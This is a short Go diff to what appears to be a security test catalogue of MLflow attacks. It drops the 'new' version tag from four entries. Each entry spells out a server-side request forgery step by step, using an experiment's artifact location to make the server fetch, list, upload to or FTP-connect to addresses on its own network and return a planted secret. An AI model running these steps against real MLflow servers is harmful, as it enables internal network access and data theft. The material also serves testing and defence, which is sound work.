@@ -181,7 +181,7 @@ var mlflowSource = []Attack{
 	{
 		ID:       "mlflow/location-request-forgery",
 		Doc:      "lets the server fetch a URL of its own network through an experiment's location",
-		Works:    []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
+		Works:    []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0"},
 		Server:   "local",
 		Listener: map[string]Reply{"/api/2.0/mlflow-artifacts/artifacts": {Type: "application/json", Body: "{}"}, "*": {Type: "application/octet-stream", Body: "${secret}"}},
 		Steps:    []Step{experimentAt("http://${listener}/api/2.0/mlflow-artifacts/artifacts/internal-${nonce}"), newRun(), get("/get-artifact?run_id=${run}&path=page")},
@@ -191,7 +191,7 @@ var mlflowSource = []Attack{
 	{
 		ID:       "mlflow/location-request-forgery-list",
 		Doc:      "lets the server list a URL of its own network, and shows what came back",
-		Works:    []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
+		Works:    []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0"},
 		Server:   "local",
 		Listener: map[string]Reply{"*": {Type: "application/json", Body: `{"files": [{"path": "${secret}", "is_dir": false, "file_size": 1}]}`}},
 		Steps:    []Step{experimentAt("http://${listener}/api/2.0/mlflow-artifacts/artifacts/internal-${nonce}"), newRun(), get(api2 + "/artifacts/list?run_id=${run}")},
@@ -200,7 +200,7 @@ var mlflowSource = []Attack{
 	{
 		ID:     "mlflow/location-upload-forgery",
 		Doc:    "lets the server send an upload to a URL of its own network",
-		Works:  []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
+		Works:  []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0"},
 		Server: "local",
 		Steps: []Step{experimentAt("http://${listener}/api/2.0/mlflow-artifacts/artifacts/internal-${nonce}"), newRun(),
 			{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=note.txt\nContent-Type: text/plain\n\n${secret}"}},
@@ -209,7 +209,7 @@ var mlflowSource = []Attack{
 	{
 		ID:     "mlflow/location-ftp",
 		Doc:    "lets the server open an FTP session with an address of its own network",
-		Works:  []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
+		Works:  []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0"},
 		Server: "local",
 		Steps:  []Step{experimentAt("ftp://user-${nonce}:pass@${listener}/x"), newRun(), get(api2 + "/artifacts/list?run_id=${run}")},
 		Proof:  Proof{Heard: "connection"},
